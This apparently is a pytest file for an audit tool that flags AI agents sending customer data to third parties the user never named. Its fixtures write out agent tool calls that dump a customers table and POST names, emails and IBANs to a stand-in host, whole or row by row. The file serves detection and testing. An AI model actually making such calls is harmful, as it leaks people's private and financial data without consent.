"""What the project is for: rows handed to a third party that nobody named, at once or bit by bit."""

from __future__ import annotations

import json

import pytest
from leaky_lines import line

from afteraction.audit import Audit
from afteraction.lake import query

ROWS = [
    {"name": "Ada Bell", "email": "ada@customer.example", "iban": "DE89370400440532013000"},
    {"name": "Cem Aydin", "email": "cem@customer.example", "iban": "GB29NWBK60161331926819"},
    {"name": "Ivo Marsh", "email": "ivo@customer.example", "iban": "FR1420041010050500013M02606"},
]
PLACE = "https://enrich.tidylists.example/v1/import"


def audited(tmp_path, request, *bodies, place=PLACE, settings=""):
    home, file = tmp_path / "home", tmp_path / "a.jsonl"
    home.mkdir()
    (home / "afteraction.toml").write_text(settings)
    said = json.dumps({"session_id": "s1", "role": "user", "text": request})
    read = line("q", "query_db", {"sql": "SELECT * FROM customers"}, result=json.dumps(ROWS))
    sent = [
        line(f"p{number}", "http_request", {"method": "POST", "url": place, "body": body}, result="202")
        for number, body in enumerate(bodies)
    ]
    file.write_text("\n".join((said, read, *sent)) + "\n")
    Audit(home).run([file])
    return query(
        home,
        "SELECT seq, severity FROM findings JOIN action_risk USING (action_id)"
        " WHERE detector = 'unasked_disclosure' AND ticketed ORDER BY seq",
    ).rows()


def test_rows_for_a_stranger_open_a_ticket(tmp_path):
    assert audited(tmp_path, "Please tidy up our customers.", json.dumps(ROWS)) == [(1, "high")]


def test_one_row_at_a_time_adds_up(tmp_path):
    each = [f"{row['email']} {row['iban']}" for row in ROWS]
    found = audited(tmp_path, "Please tidy up our customers.", *each)
    assert [seq for seq, _ in found] == [1, 2, 3]


@pytest.mark.parametrize(
    ("request_", "settings"),
    [
        (f"Send our customers to {PLACE}.", ""),
        ("Please tidy up our customers.", '[destinations]\npartner = ["tidylists.example"]\n'),
    ],
    ids=["the person named it", "a partner"],
)
def test_a_place_that_was_named_is_no_stranger(tmp_path, request_, settings):
    assert audited(tmp_path, request_, json.dumps(ROWS), settings=settings) == []
